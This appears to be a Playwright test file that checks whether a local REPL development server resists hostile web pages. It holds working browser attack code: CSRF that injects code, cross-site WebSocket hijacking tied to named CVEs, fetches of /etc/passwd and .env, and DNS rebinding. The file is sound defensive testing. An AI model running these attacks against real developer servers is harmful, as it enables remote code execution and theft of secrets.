// What a hostile page in a real browser tries on the developer's own ports: each
// row is an attack, from each origin that such a page can have, while the browser
// holds the cookie of the developer's own page. Every attack is first shown to
// reach a server that checks nothing. What needs no browser is in
// sdk-js/test/server/attacks.test.ts.

import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { createServer as createTcpServer, type AddressInfo } from "node:net";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Frame, Page } from "@playwright/test";
import { WebSocketServer } from "ws";
import { PROTOCOL_VERSION } from "../sdk-js/src/protocol.js";
import { ServerProcess } from "./process.js";
import { expect, serveStatic, test as base } from "./support.js";

const test = base.extend<{ server: ServerProcess }>({
  server: async ({}, use) => {
    const server = new ServerProcess();
    await server.start();
    await use(server);
    await server.remove();
  },
});
test.use({
  launchOptions: {
    ...(process.env.CHROMIUM && { executablePath: process.env.CHROMIUM }),
    args: ["--host-resolver-rules=MAP evil.test 127.0.0.1"],
  },
});

/** What the hostile page knows: addresses, and what it wants to run. */
interface Target {
  http: string;
  webSocket: string;
  /** Where an editor would connect, and a browser can post to. */
  nrepl: string;
  turn: string;
  /** Of the attack's port. */
  address: string;
  code: string;
  bencode: string;
  messages: string[];
}

const CODE = "(def intruder true)";
const BENCODE = `d4:code${CODE.length}:${CODE}2:id1:12:op4:evale`;
const MESSAGES = [
  {
    type: "handshake",
    version: PROTOCOL_VERSION,
    clientId: "evil",
    name: "evil",
    location: "",
    epoch: null,
    seq: 0,
  },
  { type: "eval", id: "1", code: CODE },
].map((message) => JSON.stringify(message));

const targetOf = (http: number, webSocket: number, nrepl: number, host = "localhost"): Target => ({
  http: `http://${host}:${http}/`,
  webSocket: `ws://${host}:${webSocket}/repl`,
  nrepl: `http://${host}:${nrepl}/`,
  turn: `turn:127.0.0.1:${nrepl}?transport=tcp`,
  address: "",
  code: CODE,
  bencode: BENCODE,
  messages: MESSAGES,
});

// ---- The table ---------------------------------------------------------------------

/** Runs in the page. What it got hold of; "" or "refused": nothing. */
type Body = (target: Target) => Promise<string> | string;

interface Attack {
  name: string;
  port?: "http" | "webSocket" | "nrepl";
  /** What a server that checks nothing sees of it; none: it only reads. */
  arrives?: RegExp;
  /** What such a server gives away. */
  reads?: RegExp;
  body: Body;
}

const ATTACKS: Attack[] = [
  {
    name: "fetch of a text/plain POST, which needs no preflight",
    arrives: /POST \/eval .*intruder/,
    body: ({ http, code }) =>
      fetch(`${http}eval`, { method: "POST", body: code }).then(
        (response) => response.text(),
        () => "refused",
      ),
  },
  {
    name: "fetch no-cors with cookies",
    arrives: /POST \/eval .*intruder/,
    body: ({ http, code }) =>
      fetch(`${http}eval`, {
        method: "POST",
        mode: "no-cors",
        credentials: "include",
        body: code,
      }).then(
        (response) => response.text(),
        () => "refused",
      ),
  },
  {
    name: "a beacon",
    arrives: /POST \/eval .*intruder/,
    body: async ({ http, code }) => {
      navigator.sendBeacon(`${http}eval`, code);
      await new Promise((done) => setTimeout(done, 200));
      return "";
    },
  },
  {
    name: "a form of text/plain",
    arrives: /POST \/eval .*intruder/,
    body: async ({ http, code }) => {
      const frame = Object.assign(document.createElement("iframe"), { name: "target" });
      const form = Object.assign(document.createElement("form"), {
        method: "post",
        enctype: "text/plain",
        action: `${http}eval`,
        target: "target",
      });
      form.append(Object.assign(document.createElement("input"), { name: code, value: "" }));
      document.body.append(frame, form);
      form.submit();
      await new Promise((done) => setTimeout(done, 400));
      return "";
    },
  },
  {
    name: "JSON, which is asked about first",
    body: ({ http, code }) =>
      fetch(`${http}eval`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ code }),
      }).then(
        (response) => response.text(),
        () => "refused",
      ),
  },
  ...(["webSocket", "http"] as const).map((port): Attack => ({
    name: `Vite CVE-2025-24010, Vitest CVE-2025-24964, Storybook CVE-2026-27148, webpack-dev-server CVE-2018-14732 and CVE-2025-30360: a WebSocket to the ${port} port`,
    ...(port === "webSocket" && { arrives: /WebSocket .*intruder/, reads: /confidential/ }),
    port,
    body: ({ address, messages }) =>
      new Promise((done) => {
        const socket = new WebSocket(address.replace("http", "ws").replace(/\/$/, "/repl"));
        let got = "";
        socket.onopen = () => messages.forEach((message) => socket.send(message));
        socket.onmessage = ({ data }) => (got += String(data));
        socket.onerror = () => done("refused");
        setTimeout(() => done(got), 500);
      }),
  })),
  {
    name: "esbuild GHSA-67mh-4wv8-2f99: fetch of the sources",
    body: async ({ http }) => {
      const paths = ["", "main.js", "secret.js", "src/eita.jank", "status", ".jank-hot/token"];
      const texts = paths.map((path) =>
        fetch(http + path, { credentials: "include" }).then(
          (response) => response.text(),
          () => "",
        ),
      );
      return (await Promise.all(texts)).join("");
    },
  },
  {
    name: "Vite CVE-2025-30208: fetch of a file outside, no-cors",
    body: async ({ http }) => {
      const paths = ["@fs/etc/passwd?raw??", ".env?import&raw??", ".env"];
      const texts = paths.map((path) =>
        fetch(http + path, { mode: "no-cors" }).then(
          (response) => response.text(),
          () => "",
        ),
      );
      return (await Promise.all(texts)).join("");
    },
  },
  {
    name: "webpack-dev-server CVE-2025-30359: a classic script, with traps in the prototypes",
    reads: /confidential/,
    body: ({ http }) =>
      new Promise((done) => {
        const caught: unknown[] = [];
        Object.defineProperty(Object.prototype, "leak", {
          set: (value) => caught.push(value),
          configurable: true,
        });
        const script = Object.assign(document.createElement("script"), { src: `${http}secret.js` });
        script.onload = script.onerror = () => done(caught.join());
        document.body.append(script);
      }),
  },
  {
    name: "a worker that imports the script",
    reads: /confidential/,
    body: ({ http }) =>
      new Promise((done) => {
        const code = `try { importScripts("${http}secret.js"); postMessage(String(self.leak)) } catch (e) { postMessage("refused") }`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = ({ data }) => done(String(data));
        worker.onerror = () => done("refused");
      }),
  },
  {
    name: "a picture and a style sheet",
    reads: /confidential/,
    body: async ({ http }) => {
      const picture = new Image();
      const size = new Promise<string>((done) => {
        picture.onload = () => done("confidential size");
        picture.onerror = () => done("refused");
      });
      picture.src = `${http}secret.svg`;
      const link = Object.assign(document.createElement("link"), {
        rel: "stylesheet",
        href: `${http}secret.css`,
      });
      const style = new Promise<string>((done) => {
        link.onload = () => done(getComputedStyle(document.body).getPropertyValue("--leak"));
        link.onerror = () => done("refused");
      });
      document.head.append(link);
      return (await Promise.all([size, style])).filter((text) => text !== "refused").join();
    },
  },
  {
    name: "preload, modulepreload and prefetch",
    reads: /confidential/,
    body: async ({ http }) => {
      const kinds = [
        { rel: "preload", as: "script" },
        { rel: "preload", as: "style" },
      ];
      const loads = kinds.map(
        ({ rel, as }) =>
          new Promise<string>((done) => {
            const link = document.createElement("link");
            Object.assign(link, { rel, as, href: `${http}secret.js` });
            link.onload = () => done("confidential: it is there");
            link.onerror = () => done("");
            setTimeout(() => done(""), 1000);
            document.head.append(link);
          }),
      );
      return (await Promise.all(loads)).join("");
    },
  },
  {
    name: "server-sent events",
    reads: /confidential/,
    body: ({ http }) =>
      new Promise((done) => {
        const events = new EventSource(`${http}events`, { withCredentials: true });
        events.onmessage = ({ data }) => (events.close(), done(String(data)));
        events.onerror = () => (events.close(), done("refused"));
      }),
  },
  {
    name: "a window that it opened",
    body: async ({ http }) => {
      const other = window.open(http);
      await new Promise((done) => setTimeout(done, 600));
      try {
        return other?.document.documentElement.outerHTML ?? "";
      } catch {
        return "refused";
      } finally {
        other?.close();
      }
    },
  },
  {
    name: "the cookies",
    body: () => {
      try {
        return document.cookie;
      } catch {
        return "refused";
      }
    },
  },
  ...(["nrepl", "webSocket"] as const).flatMap((port): Attack[] => [
    {
      name: `bencode by fetch to the ${port} port`,
      arrives: port === "nrepl" ? /TCP .*intruder/ : /POST \/repl .*intruder/,
      port,
      body: ({ address, bencode }) =>
        fetch(address, { method: "POST", mode: "no-cors", body: bencode }).then(
          (response) => response.text(),
          () => "refused",
        ),
    },
    {
      name: `bencode by a form of text/plain to the ${port} port`,
      arrives: port === "nrepl" ? /TCP .*intruder/ : /POST \/repl .*intruder/,
      port,
      body: async ({ address, bencode }) => {
        const frame = Object.assign(document.createElement("iframe"), { name: "bencode" });
        const form = Object.assign(document.createElement("form"), {
          method: "post",
          enctype: "text/plain",
          action: address,
          target: "bencode",
        });
        const fields = { [bencode.slice(0, 9)]: bencode, x: `\n${bencode}` };
        for (const [name, value] of Object.entries(fields))
          form.append(Object.assign(document.createElement("textarea"), { name, value }));
        document.body.append(frame, form);
        form.submit();
        await new Promise((done) => setTimeout(done, 400));
        return "";
      },
    },
  ]),
  {
    name: "WebRTC's TURN over TCP to the nREPL port, with bencode as its name",
    arrives: /TCP /,
    body: async ({ turn, bencode }) => {
      const iceServers = [{ urls: turn, username: bencode, credential: bencode }];
      const connection = new RTCPeerConnection({ iceServers });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((done) => setTimeout(done, 400));
      connection.close();
      return "";
    },
  },
];

// ---- The pages --------------------------------------------------------------------

let site: Awaited<ReturnType<typeof serveStatic>>;
let scratch: string;

test.beforeEach(async () => {
  scratch = mkdtempSync(join(tmpdir(), "jank-evil-"));
  writeFileSync(join(scratch, "index.html"), "<!doctype html><title>harmless</title><body>");
  writeFileSync(
    join(scratch, "sandbox.html"),
    `<!doctype html><iframe sandbox="allow-scripts allow-forms allow-popups"
       src="/"></iframe>`,
  );
  site = await serveStatic(scratch);
});

test.afterEach(() => {
  site.close();
  rmSync(scratch, { recursive: true });
});

const ORIGINS: [string, (page: Page) => Promise<Page | Frame>][] = [
  [
    "another site",
    async (page) => {
      await page.goto(site.url.replace("localhost", "evil.test"));
      return page;
    },
  ],
  [
    "another port of this machine",
    async (page) => {
      await page.goto(site.url);
      return page;
    },
  ],
  [
    "a sandboxed frame, whose origin is null",
    async (page) => {
      await page.goto(`${site.url.replace("localhost", "evil.test")}sandbox.html`);
      await expect.poll(() => page.frames().length).toBe(2);
      const frame = page.frames()[1] as Frame;
      await frame.waitForLoadState();
      expect(await frame.evaluate(() => origin)).toBe("null");
      return frame;
    },
  ],
];

const SECRETS: Record<string, string> = {
  "secret.js": 'var leak = "confidential"; ({}).leak = leak; self.leak = leak;',
  "secret.css": ":root, body { --leak: confidential; }",
  "secret.svg":
    '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"><!-- confidential --></svg>',
  ".env": "confidential",
};

function run(where: Page | Frame, { port, body }: Attack, target: Target): Promise<string> {
  const address = port ? target[port].replace("ws:", "http:") : "";
  return where.evaluate(body, { ...target, address });
}

async function expectUntouched(server: ServerProcess): Promise<void> {
  // An expression may meet a page that is just going away.
  const value = async (code: string) => (await server.evaluate(code)).value;
  await expect.poll(() => value("(resolve 'user/intruder)")).toBe("nil");
  await expect.poll(() => value("(eita/ggg 10)")).toBe("58");
}

async function ownServer(page: Page, server: ServerProcess): Promise<string> {
  for (const [name, text] of Object.entries(SECRETS))
    writeFileSync(join(server.folder, name), text);
  await page.goto(server.url);
  await expect(page.locator("#server")).toHaveText("connected");
  const [cookie] = await page.context().cookies(server.url);
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
  return cookie?.value ?? "";
}

for (const [origin, open] of ORIGINS)
  test(`every attack of ${origin} fails`, async ({ page, server }) => {
    test.setTimeout(60_000);
    const token = await ownServer(page, server);
    const { http, webSocket, nrepl } = server.ports;
    for (const attack of ATTACKS) {
      const where = await open(page);
      const got = await run(where, attack, targetOf(http, webSocket, nrepl));
      expect.soft(["", "refused"], `${attack.name} got ${got}`).toContain(got);
      expect(got).not.toContain(token);
      for (const frame of page.frames().slice(1))
        expect(await frame.content().catch(() => "")).not.toMatch(/confidential|defn ggg/);
      await expectUntouched(server);
    }
    expect(server.output).not.toContain(token);
  });

test("every attack fails after DNS rebinding, when our address is the page's own", async ({
  page,
  server,
}) => {
  test.setTimeout(60_000);
  const token = await ownServer(page, server);
  const { http, webSocket, nrepl } = server.ports;
  const own = `http://evil.test:${http}/`;
  let told = "";
  for (const attack of ATTACKS) {
    // The name has led to the attacker's server once; now it leads here.
    await page.route(own, (route) => route.fulfill({ contentType: "text/html", body: "<body>" }));
    await page.goto(own);
    await page.unroute(own);
    const got = await run(page, attack, targetOf(http, webSocket, nrepl, "evil.test"));
    told += got;
    expect(got).not.toMatch(/confidential|defn ggg|handshake_ack|user\/intruder|root:/);
    expect(got).not.toContain(token);
    await expectUntouched(server);
  }
  expect(told).toContain("is not this server"); // it is this server that has refused
});

test("our own page may do what they may not", async ({ page, server }) => {
  await ownServer(page, server);
  const answer = () =>
    page.evaluate(
      async (code) => (await fetch("/eval", { method: "POST", body: code })).json() as unknown,
      CODE,
    );
  expect(await answer()).toMatchObject({ value: "#'user/intruder" });
  await page.context().clearCookies();
  expect(await answer()).toMatchObject({ ok: false });
});

test("a page that is open while the server starts again goes on, twice", async ({
  page,
  server,
}) => {
  const first = await ownServer(page, server);
  for (let i = 0; i < 2; i++) {
    await server.stop();
    await expect(page.locator("#server")).toHaveText("reconnecting");
    await server.start();
    await expect(page.locator("#server")).toHaveText("connected", { timeout: 15_000 });
  }
  const [cookie] = await page.context().cookies(server.url);
  expect(cookie?.value).not.toBe(first);
});

// ---- That they are attacks -----------------------------------------------------------

/** A server as those of the advisories were: it looks at nothing. */
async function carelessServer() {
  const seen: string[] = [];
  const servers: { close(): void }[] = [];
  const listening = async (server: Server | ReturnType<typeof createTcpServer>) => {
    servers.push(server);
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    return (server.address() as AddressInfo).port;
  };
  const careless = () =>
    createServer((request, response) => {
      let body = "";
      request.on("data", (chunk: Buffer) => (body += chunk.toString()));
      request.on("end", () => {
        seen.push(`${request.method} ${request.url} ${body}`);
        const name = request.url?.slice(1) ?? "";
        const type = { js: "text/javascript", css: "text/css", svg: "image/svg+xml" };
        const ending = name.split(".").at(-1) as keyof typeof type;
        const events = name === "events";
        response.writeHead(200, {
          "Content-Type": events ? "text/event-stream" : (type[ending] ?? "text/plain"),
          ...(events && { "Access-Control-Allow-Origin": request.headers.origin }),
          ...(events && { "Access-Control-Allow-Credentials": "true" }),
        });
        response.end(events ? "data: confidential\n\n" : (SECRETS[name] ?? ""));
      });
    });
  const tcp = createTcpServer((socket) => {
    socket.on("data", (bytes) => seen.push(`TCP ${bytes.toString("latin1")}`));
    socket.on("error", () => undefined);
    socket.setTimeout(300, () => socket.destroy());
  });
  const webSockets = careless();
  new WebSocketServer({ server: webSockets }).on("connection", (socket) => {
    socket.send("confidential");
    socket.on("message", (data) => seen.push(`WebSocket ${(data as Buffer).toString()}`));
  });
  const ports = [
    await listening(careless()),
    await listening(webSockets),
    await listening(tcp),
  ] as const;
  return { seen, target: targetOf(...ports), close: () => servers.forEach((each) => each.close()) };
}

test("against a server that checks nothing the attacks succeed", async ({ page }) => {
  test.setTimeout(60_000);
  const careless = await carelessServer();
  for (const attack of ATTACKS) {
    const where = await (ORIGINS[0] as (typeof ORIGINS)[0])[1](page);
    careless.seen.length = 0;
    const got = await run(where, attack, careless.target);
    if (attack.arrives)
      await expect
        .poll(() => careless.seen.join(" ").replaceAll(/[\r\n]+/g, " "), { message: attack.name })
        .toMatch(attack.arrives);
    if (attack.reads) expect.soft(got, attack.name).toMatch(attack.reads);
  }
  careless.close();
});
